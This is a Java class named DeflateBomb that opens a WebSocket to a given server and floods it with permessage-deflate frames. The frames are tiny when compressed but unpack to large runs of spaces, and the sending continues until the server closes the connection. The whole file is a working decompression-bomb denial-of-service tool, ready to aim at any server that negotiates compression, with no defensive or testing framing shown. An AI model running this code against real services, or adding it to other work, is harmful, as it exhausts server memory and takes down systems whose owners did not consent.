package dev.hubbub.client;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;

/** Messages that are small on the wire and large when they are unpacked (RFC 7692). */
public final class DeflateBomb {
    private DeflateBomb() {}

    /** Sends such messages and reads until the server ends the connection. The server must accept permessage-deflate. */
    public static void send(URI application, int messages, int unpacked) throws IOException {
        byte[] frame = frame(unpacked);
        try (RawWebSocket socket = RawWebSocket.open(
                application,
                "events",
                "Sec-WebSocket-Extensions",
                "permessage-deflate; client_no_context_takeover; server_no_context_takeover")) {
            if (!socket.head.contains("permessage-deflate")) {
                throw new IOException("The server does not compress: " + socket.head);
            }
            try {
                for (int i = 0; i < messages; i++) {
                    socket.send(frame);
                }
                socket.in().transferTo(OutputStream.nullOutputStream());
            } catch (IOException ended) {
                return; // the server has closed the connection while it was written to
            }
        }
    }

    private static byte[] frame(int unpacked) throws IOException {
        ByteArrayOutputStream compressed = new ByteArrayOutputStream();
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        try (DeflaterOutputStream out = new DeflaterOutputStream(compressed, deflater, 8_192, true)) {
            byte[] blanks = " ".repeat(100_000).getBytes(StandardCharsets.US_ASCII);
            for (int i = 0; i < unpacked; i += blanks.length) {
                out.write(blanks);
            }
            out.flush();
            byte[] bytes = compressed.toByteArray();
            int length = bytes.length - 4; // without the empty block at the end (RFC 7692, section 7.2.1)
            return ByteBuffer.allocate(14 + length)
                    .put((byte) 0xC1)
                    .put((byte) 0xFF)
                    .putLong(length)
                    .putInt(0)
                    .put(bytes, 0, length)
                    .array();
        } finally {
            deflater.end();
        }
    }
}
